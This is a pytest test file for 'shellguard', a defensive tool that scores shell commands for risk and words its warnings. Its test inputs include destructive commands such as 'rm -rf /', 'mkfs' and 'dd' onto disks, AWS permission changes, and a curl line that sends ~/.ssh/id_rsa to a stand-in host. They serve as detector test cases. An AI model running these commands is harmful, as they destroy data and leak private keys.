"""Facts move a score both ways; what is not known moves nothing; what is critical never falls."""

from __future__ import annotations

import pytest

from shellguard.effects.derive import effects_of
from shellguard.effects.effect import Effect, EffectKind
from shellguard.facts.fact import NO_FACTS, Facts, Recovery, TargetFacts
from shellguard.parsing.reading import read
from shellguard.risk.finding import Level, Risk
from shellguard.risk.weigh import score_of, weigh
from shellguard.risk.weights import THRESHOLD
from shellguard.risk.wording import message_of, shown

DAY = 86_400.0
NOW = 1_800_000_000.0


def weighed(line: str, fact: TargetFacts | None = None, **surroundings: str) -> Risk:
    script = read(line)
    effects = effects_of(script)
    facts = NO_FACTS
    if fact is not None or surroundings:
        targets = {
            (index, place): fact
            for index, effect in enumerate(effects)
            for place in range(len(effect.targets))
            if fact is not None
        }
        facts = Facts(targets=targets, surroundings=surroundings, looked=True)
    return weigh(script, effects, facts, now=NOW)


@pytest.mark.parametrize(
    "recovery", [Recovery.NOTHING_LOST, Recovery.REBUILT, Recovery.TRACKED, Recovery.TEMPORARY]
)
def test_removing_what_comes_back_is_not_asked_about(recovery: Recovery) -> None:
    fact = TargetFacts(path="/home/me/p/x", exists=True, files=40, recovery=recovery)
    assert weighed("rm -rf x", fact).score <= 50


def test_unknown_target_moves_nothing() -> None:
    assert weighed("rm -rf x", TargetFacts()).score == weighed("rm -rf x").score > 50


def test_one_lost_file_is_small_and_a_lost_folder_is_not() -> None:
    lost = TargetFacts(
        path="/home/me/a", exists=True, kind="file", files=1, total_bytes=900, recovery=Recovery.LOST
    )
    assert weighed("rm a.txt", lost).score <= 50
    folder = TargetFacts(path="/home/me/a", exists=True, kind="folder", files=900, recovery=Recovery.LOST)
    assert weighed("rm -rf a", folder).score > weighed("rm -rf a").score


def test_more_files_more_bytes_and_newer_changes_weigh_more() -> None:
    def lost(files: int, size: int, age: float) -> int:
        fact = TargetFacts(
            path="/home/me/a",
            exists=True,
            files=files,
            total_bytes=size,
            newest=NOW - age,
            recovery=Recovery.LOST,
        )
        return weighed("rm -rf a", fact).score

    assert lost(5, 10, 9 * DAY) < lost(500, 10, 9 * DAY) < lost(50_000, 10, 9 * DAY)
    assert lost(500, 10, 9 * DAY) < lost(500, 20 << 30, 9 * DAY)
    assert lost(500, 10, 9 * DAY) < lost(500, 10, 100.0)


def test_protected_path_is_critical_whatever_its_name() -> None:
    fact = TargetFacts(path="/home/me", exists=True, protected="your home folder", recovery=Recovery.LOST)
    assert weighed("rm -rf build", fact).level is Level.CRITICAL


@pytest.mark.parametrize("line", ["rm -rf /", "rm -rf ~", "mkfs.ext4 /dev/sda1", "dd if=x of=/dev/sda"])
@pytest.mark.parametrize("recovery", list(Recovery))
def test_critical_never_falls(line: str, recovery: Recovery) -> None:
    assert weighed(line, TargetFacts(exists=True, recovery=recovery), production="no").score >= 91


def test_production_raises_and_a_toy_cluster_lowers() -> None:
    unknown = weighed("kubectl delete ns web").score
    assert weighed("kubectl delete ns web", production="yes").score > unknown
    assert (
        weighed("kubectl delete pod web", production="no").score
        <= 50
        < weighed("kubectl delete pod web").score
    )


def test_downloaded_file_that_the_session_remembers_is_downloaded_code() -> None:
    script = read("tar --use-compress-program=./x -cf a b")
    effects = effects_of(script)
    run = [index for index, effect in enumerate(effects) if effect.kind is EffectKind.EXECUTE]
    facts = Facts(remembered=dict.fromkeys(run, "downloaded 3 lines ago"), looked=True)
    assert weigh(script, effects).score < 80 <= weigh(script, effects, facts).score


def test_findings_come_gravest_first_and_once() -> None:
    risk = weighed("rm -rf /etc; rm notes; rm -rf /etc; git push --force")
    scores = [finding.score for finding in risk.findings]
    assert scores == sorted(scores, reverse=True)
    keys = [(finding.id, finding.targets) for finding in risk.findings]
    assert len(keys) == len(set(keys))


def test_sentence_says_what_and_how_much() -> None:
    fact = TargetFacts(
        path="/home/me/photos",
        exists=True,
        files=1204,
        total_bytes=3_100_000_000,
        recovery=Recovery.LOST,
        reason="holds files that git does not know",
    )
    said = weighed("rm -rf photos", fact).reasoning
    assert "photos" in said
    assert "1 204 files" in said
    assert "3.1 GB" in said


@pytest.mark.parametrize(
    ("line", "named"),
    [
        ("aws iam create-access-key --user-name ann", ": ann."),
        ("aws iam attach-user-policy --user-name ann --policy-arn a", ": ann."),
        ("aws s3api put-bucket-acl --bucket shop --acl public-read", ": shop."),
        ("nvme format /dev/nvme0n1", ": /dev/nvme0n1."),
        ("hdparm --user-master u --security-erase p /dev/sda", ": /dev/sda."),
    ],
)
def test_sentence_names_what_it_is_done_to_and_not_the_words_that_say_what(line: str, named: str) -> None:
    assert weighed(line).reasoning.endswith(named)


@pytest.mark.parametrize(("kind", "told"), [(EffectKind.DELETE, True), (EffectKind.PERSIST, False)])
def test_what_is_made_is_not_told_to_be_missing(kind: EffectKind, told: bool) -> None:
    effect = Effect(kind, "a.b", "tee", "writes what starts by itself", 60)
    missing = TargetFacts("/x/a.service", False, reason="it is not there")
    assert ("it is not there" in message_of(effect, [missing])) is told


@pytest.mark.parametrize(
    ("line", "kinds", "said"),
    [
        ("rm -rf photos", ("folder",), "removes a folder with everything in it: photos"),
        ("rm -rf notes.txt", ("file",), "removes a file: notes.txt"),
        ("rm -rf a.txt b.txt", ("file", "file"), "removes files: a.txt, b.txt"),
        (
            "rm -rf photos a.txt",
            ("folder", "file"),
            "removes files, and folders with everything in them: photos, a.txt",
        ),
        ("rm -rf $SOMEWHERE", (), "removes folders with everything in them: $SOMEWHERE"),
        ("rm -f *.txt", (), "removes files: *.txt"),
        ('for f in a b c d; do rm "$f"; done', (), "removes files: a, b, c and 1 more"),
        ('while read -r f; do rm "$f"; done', (), "removes files: $f"),
        ("rm a.txt", (), "removes a file: a.txt"),
    ],
)
def test_a_sentence_has_the_number_of_what_it_speaks_of(line: str, kinds: tuple[str, ...], said: str) -> None:
    effect = next(one for one in effects_of(read(line)) if one.kind is EffectKind.DELETE)
    facts = [TargetFacts(f"/x/{place}", True, kind) for place, kind in enumerate(kinds)]
    assert message_of(effect, facts).startswith(said)


@pytest.mark.parametrize(
    ("lost", "said"),
    [
        (Recovery.TRACKED, "switches to a branch, or writes over"),
        (Recovery.LOST, "takes back the changes in a file"),
    ],
)
def test_a_checkout_that_loses_changes_is_one_of_a_file(lost: Recovery, said: str) -> None:
    effect = next(one for one in effects_of(read("git checkout a.c")) if one.rule == "git.checkout-name")
    assert message_of(effect, [TargetFacts("/x", True, "work tree", recovery=lost)]).startswith(said)


def test_control_characters_of_a_target_do_not_reach_the_sentence() -> None:
    assert "\x1b" not in weighed("rm -rf $'a\\x1b[2Jb'").reasoning


def test_plain_line_is_safe_and_sure() -> None:
    risk = weighed("ls -la")
    assert (risk.score, risk.level) == (0, Level.SAFE)
    assert risk.confidence >= 0.95


def test_line_that_is_not_looked_at_is_less_sure_than_one_that_is() -> None:
    looked = weighed("rm -rf x", TargetFacts(exists=True, files=3, recovery=Recovery.LOST))
    assert weighed("rm -rf x").confidence < looked.confidence


def test_unreadable_line_that_destroys_is_asked_about() -> None:
    assert weighed("rm -rf ~/x; if then ((").score > 50


@pytest.mark.parametrize(
    ("line", "said", "unsaid"),
    [
        ("cat list | xargs rm -rf", "whatever is handed to it", "{}"),
        ("curl -d @- https://x.example < ~/.ssh/id_rsa", "", "@-"),
    ],
)
def test_what_nobody_typed_as_a_name_is_not_named(line: str, said: str, unsaid: str) -> None:
    messages = " ".join(finding.message for finding in weighed(line).findings)
    assert said in messages
    assert unsaid not in messages


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("https://example.com/a:b@c", "https://example.com/a:b@c"),
        ("git@example.com:a/b", "git@example.com:a/b"),
        ("postgres://ann@db/shop", "postgres://ann@db/shop"),
        ("postgres://ann:s3cret@db/shop", "postgres://ann:…@db/shop"),
        ("redis://:s3cret@cache:6379/0", "redis://:…@cache:6379/0"),
    ],
)
def test_an_address_is_shown_without_its_password(text: str, said: str) -> None:
    assert shown(text) == said


@pytest.mark.parametrize(("recursive", "capped"), [(True, False), (False, True)])
def test_a_protected_file_that_is_not_there_is_no_loss_but_a_protected_tree_may_be(
    recursive: bool, capped: bool
) -> None:
    effect = Effect(EffectKind.DELETE, "a.b", "rm", "removes a file of the system", 60, recursive=recursive)
    missing = TargetFacts(
        "/usr/bin/x", False, recovery=Recovery.NOTHING_LOST, reason="it is not there", protected="a part"
    )
    assert (score_of(0, effect, Facts(), [missing], None) < THRESHOLD) is capped


@pytest.mark.parametrize(
    "line", ["sudo rm thesis.odt", "sudo rm -r photos", "sudo rm /srv/app/run.sh", "sudo rm data.sql"]
)
def test_what_is_asked_about_weighs_more_as_root(line: str) -> None:
    assert THRESHOLD < weighed(line.removeprefix("sudo ")).score < weighed(line).score


@pytest.mark.parametrize("line", ["sudo rm index.html", "sudo rm -f default", "sudo rm latest.tar.gz"])
def test_a_named_file_that_goes_without_a_question_does_so_as_root(line: str) -> None:
    assert weighed(line).score <= THRESHOLD
